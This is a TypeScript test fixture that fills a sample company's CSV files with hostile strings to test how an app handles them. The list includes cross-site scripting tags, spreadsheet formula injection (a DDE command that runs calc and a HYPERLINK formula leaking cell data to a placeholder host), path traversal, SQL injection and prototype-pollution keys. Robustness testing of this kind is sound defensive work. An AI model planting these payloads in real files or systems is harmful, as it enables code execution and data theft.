/** The sample company with a hostile text in every free-text field of its files. */
import { cp, readdir, readFile, writeFile } from 'node:fs/promises'
import { join, resolve } from 'node:path'
import { CsvSplitter } from '@main/connectors/files/csv-records'
import { canonicalEntities } from '@shared/model/entities/canonical-entities'

export const hostileTexts: readonly string[] = [
  '<script>document.title="taken"</script>',
  '<img src=x onerror="document.title=1">',
  '"><svg onload=alert(1)>',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://example.invalid/?"&A1,"click")',
  '+1+1',
  '-2+3',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '../../../../../../tmp/evenkeel-escaped',
  'C:\\Windows\\System32\\..\\x',
  '\u202egnp.elbaliava',
  'before\u0000after',
  '__proto__',
  'constructor',
  `{{7*7}} ${'$'}{7*7} $t(app.title)`,
  "'; DROP TABLE item; --",
  '\u001b[31mred\u001b[0m',
  `long ${'x'.repeat(300_000)} end`,
]

/** Fields that people write freely; codes and words from lists are left, or nothing would be planned. */
const free = new Set(['name_zh', 'name_en', 'owner', 'loss_reason', 'author', 'stage'])

const quoted = (text: string): string =>
  /[",\r\n]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text

/** Copies the sample company to `folder` and spoils its texts. Answers how many were put in. */
export async function writeHostileCompany(folder: string): Promise<number> {
  const sample = resolve(import.meta.dirname, '../../../resources/sample-company')
  await cp(sample, folder, { recursive: true })
  let count = 0
  for (const { name } of canonicalEntities) {
    const path = await findFile(folder, `${name}.csv`)
    if (path === null) continue
    const splitter = new CsvSplitter(',')
    const records = [...splitter.push(await readFile(path, 'utf8')), ...splitter.end()]
    const [heading, ...rows] = records.map(({ cells }) => [...cells])
    if (!heading) continue
    for (const row of rows)
      heading.forEach((field, at) => {
        if (!free.has(field) || (row[at] ?? '') === '') return
        row[at] = hostileTexts[count % hostileTexts.length] ?? ''
        count += 1
      })
    const lines = [heading, ...rows].map((row) => row.map(quoted).join())
    await writeFile(path, `${lines.join('\n')}\n`)
  }
  return count
}

async function findFile(folder: string, name: string): Promise<string | null> {
  for (const entry of await readdir(folder, { recursive: true }))
    if (entry === name || entry.endsWith(`/${name}`)) return join(folder, entry)
  return null
}
